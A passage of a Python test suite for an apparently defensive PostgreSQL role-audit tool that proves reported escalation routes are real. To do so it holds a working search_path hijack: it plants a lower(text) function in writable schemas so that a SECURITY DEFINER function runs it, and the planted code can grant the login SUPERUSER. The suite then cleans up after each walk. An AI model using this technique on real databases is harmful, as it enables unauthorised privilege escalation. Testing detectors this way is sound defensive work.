    pg: Any, db: str, actor: Actor, step: dict[str, Any], parts: dict[str, Any], where: str
) -> None:
    """Plant lower(text) in every schema the acting role can create in, put them first on
    the search_path and call the SECURITY DEFINER function: the planted code runs as its
    owner (recorded in the proof table; a superuser owner also makes the login a superuser)."""
    schemas = [
        r[0]
        for r in actor.x(
            "SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
            "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema'"
        )
    ]
    assert schemas, f"{where}: no schema to plant in"
    owner_super = pg.query(
        f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(step['to'])}"
    )[0][0]
    extra = f"EXECUTE 'ALTER ROLE {q(actor.login)} SUPERUSER'; " if owner_super else ""
    for s in schemas:
        actor.x(
            f"CREATE FUNCTION {q(s)}.lower(text) RETURNS text LANGUAGE plpgsql AS "
            f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); {extra}"
            "RETURN $1; END$$"
        )
    before = _proof(pg, db)
    actor.x("SET search_path = " + ", ".join(q(s) for s in schemas) + ", pg_catalog")
    actor.x(f"SELECT {step['object'].split('(')[0]}('X')")  # identity: quoted schema.name(args)
    assert _proof(pg, db)[len(before) :] == [step["to"]], where
    actor.x("RESET search_path")
    if owner_super:
        actor.x("RESET ROLE")  # the login itself is a superuser now
    else:
        actor.become(step["to"])


def psql_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _restore(pg: Any, db: str) -> None:
    """Undo what a walk changed: superuser flags, memberships granted to itself, replaced
    functions, planted functions."""
    pg.execute(
        f"""
        DO $$ DECLARE r record; BEGIN
          FOR r IN SELECT p.oid::regprocedure AS f, p.proname FROM pg_proc p
                   JOIN pg_namespace n ON n.oid = p.pronamespace
                   WHERE n.nspname IN ('{P}_devtools', '{P}_mgrtools') LOOP
            EXECUTE 'ALTER FUNCTION ' || r.f || ' SET SCHEMA '
                    || CASE r.proname WHEN 'touch' THEN '{P}_appx' ELSE 'public' END;
          END LOOP;
        END $$;
        CREATE OR REPLACE FUNCTION {P}_appx.touch() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
        CREATE OR REPLACE FUNCTION public.{P}_evf() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
        CREATE OR REPLACE FUNCTION public.{P}_jobs_trg() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
        DO $$ DECLARE r record; BEGIN
          FOR r IN SELECT p.oid::regprocedure AS f FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
                   WHERE p.proname = 'lower' AND n.nspname <> 'pg_catalog' LOOP
            EXECUTE 'DROP FUNCTION ' || r.f;
          END LOOP;
        END $$;""",
        dbname=db,
    )
    # after the functions: a planted event trigger payload fires on the DDL above
    logins = [
        r[0]
        for r in pg.query(
            "SELECT rolname FROM pg_roles WHERE rolname LIKE %s AND rolsuper AND rolname <> %s",
            (f"{P}\\_%", f"{P}_su"),
        )
    ]
    for name in logins:
        pg.execute(f"ALTER ROLE {q(name)} NOSUPERUSER")


def test_oracle_every_reported_route_is_real(
    layout: dict[str, Any], pg: Any, tmp_path: Any
) -> None:
    from pgaudit_roles.commands.paths import gather

    db = layout["db"]
    routes = [
        r
        for r in gather(layout["con"], None, None)
        if _mine(r["from"], [s["to"] for s in r["steps"]], db, [s["database"] for s in r["steps"]])
    ]
    assert len(routes) >= len(expected_routes(pg.major))
    grants_before = set(pg.query("SELECT roleid, member FROM pg_auth_members"))
    walked = []
    for r in routes:
        try:
            log = _walk(pg, db, r, tmp_path)
        except Exception as exc:
            raise AssertionError(f"route {r['route']} is not real: {exc}") from exc
        finally:
            extra = set(pg.query("SELECT roleid, member FROM pg_auth_members")) - grants_before
            for roleid, member in extra:
                pg.execute(
                    f"REVOKE {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (roleid,))[0][0])} "
                    f"FROM {q(pg.query('SELECT rolname FROM pg_roles WHERE oid = %s', (member,))[0][0])}"
                )
            _restore(pg, db)
        assert len(log) == len(r["steps"])
        walked.append(r["route"])
    assert walked


def test_paths_command(layout: dict[str, Any], pg: Any, tmp_path: Any) -> None:
    from audit_builds import built_once, close_all

    from pgaudit_roles.cli import cli
    from pgaudit_roles.collect.snapshot import save

    path = tmp_path / "snap.json"
    save(layout["snap"], path)
    # The runs read one file: the audit schema ``paths`` asks for is built by the first and
    # read by the others (tests/audit_builds.py; a build was most of each run's CPU).
    builds: dict[Any, Any] = {}
    try:
        with built_once(builds):
            _paths_runs(cli, path)
    finally:
        close_all(builds)


def _paths_runs(cli: Any, path: Any) -> None:
    from click.testing import CliRunner

    runner = CliRunner()
    res = runner.invoke(cli, ["paths", str(path), "--from", f"{P}_app", "--to", "superuser"])
    assert res.exit_code == 0, res.output
    assert f"1. {P}_app -> superuser-equivalent (3 hops)" in res.output
    assert f"take: SET ROLE {P}_team;" in res.output
    assert "weakest hop: 2: ALTER FUNCTION" in res.output
    res = runner.invoke(cli, ["paths", str(path), "--from", "PUBLIC", "--format", "json"])
    assert res.exit_code == 0, res.output
    data = json.loads(res.output)
    assert [r["steps"][0]["kind"] for r in data if r["from"] == "PUBLIC"] == ["public_user_mapping"]
    res = runner.invoke(cli, ["paths", str(path), "--to", f"db_owner_{P}x", "--from", f"{P}_dev"])
    assert res.exit_code == 0 and "--trigger_function-->" in res.output
    res = runner.invoke(cli, ["paths", str(path), "--from", f"app_{P}g", "--to", "superuser"])
    assert res.exit_code == 0 and res.output.strip() == "No escalation route found."
    from pgaudit_roles.cli import main

    with pytest.raises(SystemExit) as exc:
        main(["paths", str(path), "--from", "no such role"])
    assert exc.value.code == 2
